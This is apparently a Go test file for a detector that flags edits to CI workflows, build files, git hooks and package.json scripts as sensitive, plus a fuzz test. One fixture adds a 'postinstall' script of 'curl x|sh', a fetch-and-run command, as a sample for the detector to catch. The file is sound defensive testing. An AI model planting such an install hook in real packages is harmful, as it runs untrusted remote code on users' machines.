package workspace

import "testing"

func TestSensitive(t *testing.T) {
	for _, rel := range []string{".github/workflows/ci.yml", "sub/.github/workflows/x.yaml", ".gitlab-ci.yml", ".vscode/tasks.json",
		".idea/workspace.xml", "Makefile", "build/rules.mk", "scripts/deploy.sh", ".envrc", ".gitattributes", ".gitmodules",
		".husky/pre-commit", ".pre-commit-config.yaml", "Jenkinsfile"} {
		if Sensitive(rel, nil, []byte("x")) == "" {
			t.Errorf("%s is not sensitive", rel)
		}
	}
	for _, rel := range []string{"main.go", "README.md", "github/workflows.md", "docs/Makefile.md"} {
		if why := Sensitive(rel, nil, []byte("x")); why != "" {
			t.Errorf("%s is sensitive: %s", rel, why)
		}
	}
	old := []byte(`{"name":"a","scripts":{"test":"jest"},"version":"1.0.0"}`)
	if why := Sensitive("package.json", old, []byte(`{"name":"a","scripts":{"test":"jest"},"version":"1.0.1"}`)); why != "" {
		t.Errorf("a version bump is sensitive: %s", why)
	}
	if Sensitive("web/package.json", old, []byte(`{"name":"a","scripts":{"test":"jest","postinstall":"curl x|sh"}}`)) == "" {
		t.Error("a new postinstall script is not sensitive")
	}
}

// FuzzSensitive: any path and package.json contents: no panic, and a
// package.json whose content does not change is never sensitive.
func FuzzSensitive(f *testing.F) {
	f.Add("package.json", []byte(`{"scripts":{"a":"b"}}`), []byte(`{"scripts":{"a":"c"}}`))
	f.Add(".github/workflows/ci.yml", []byte(nil), []byte("x"))
	f.Add("a/.idea/b", []byte("{"), []byte("}"))
	f.Fuzz(func(t *testing.T, rel string, old, new []byte) {
		_ = Sensitive(rel, old, new)
		if why := Sensitive("package.json", old, old); why != "" && old != nil {
			t.Fatalf("an unchanged package.json is sensitive: %s", why)
		}
	})
}
